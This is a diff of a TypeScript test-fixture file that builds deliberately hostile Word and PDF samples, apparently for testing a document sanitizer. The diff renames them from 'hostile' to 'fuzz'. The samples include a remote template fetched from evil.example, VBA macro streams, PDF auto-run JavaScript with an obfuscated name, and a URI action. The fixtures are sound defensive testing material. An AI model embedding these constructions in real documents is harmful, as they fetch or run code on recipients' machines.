@@ -1,5 +1,5 @@
 import { deflateSync } from 'node:zlib';
-import { archive, pdf } from './hostile-files.ts';
+import { archive, pdf } from './fuzz-files.ts';
 
 const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 const WORDML = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
@@ -40,7 +40,7 @@ export const HARMLESS_WORDS: Readonly<Record<string, Buffer>> = {
 };
 
 /** Word documents that would run or fetch something, each in a way that a look at the text alone has missed. */
-export const hostileWords = (): Record<string, Buffer> => ({
+export const fuzzWordFiles = (): Record<string, Buffer> => ({
   'a template in single quotes': docx({
     [SETTINGS]: relations(relation('attachedTemplate', "Target='http://evil.example/t' TargetMode='External'")),
   }),
@@ -148,7 +148,7 @@ export function compound(entries: readonly (readonly [string, true | string])[])
 export const doc = (...more: (readonly [string, true | string])[]): Buffer =>
   compound([['WordDocument', 'Hello'], ['1Table', ''], ['\u0005SummaryInformation', ''], ...more]);
 
-export const hostileOldWords = (): Record<string, Buffer> => ({
+export const fuzzOldWordFiles = (): Record<string, Buffer> => ({
   macros: doc(['Macros', true], ['VBA', true], ['_VBA_PROJECT', 'x']),
   'macros in other letters': doc(['mACROS', true]),
   'embedded objects': doc(['ObjectPool', true], ['_1234567890', true]),
@@ -175,7 +175,7 @@ const catalog = (more: string): Buffer => {
 };
 
 /** PDFs in which something runs, is sent, opened or fetched. They are refused, or what comes out has none of it. */
-export const hostilePdfs = (): Record<string, Buffer> => ({
+export const fuzzPdfs = (): Record<string, Buffer> => ({
   script: catalog('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
   'script with a hidden name': catalog('/OpenAction << /S /J#61vaScript /#4aS (app.alert(1)) >>'),
   'an address to open': catalog('/OpenAction << /S /URI /URI (http://evil.example) >>'),
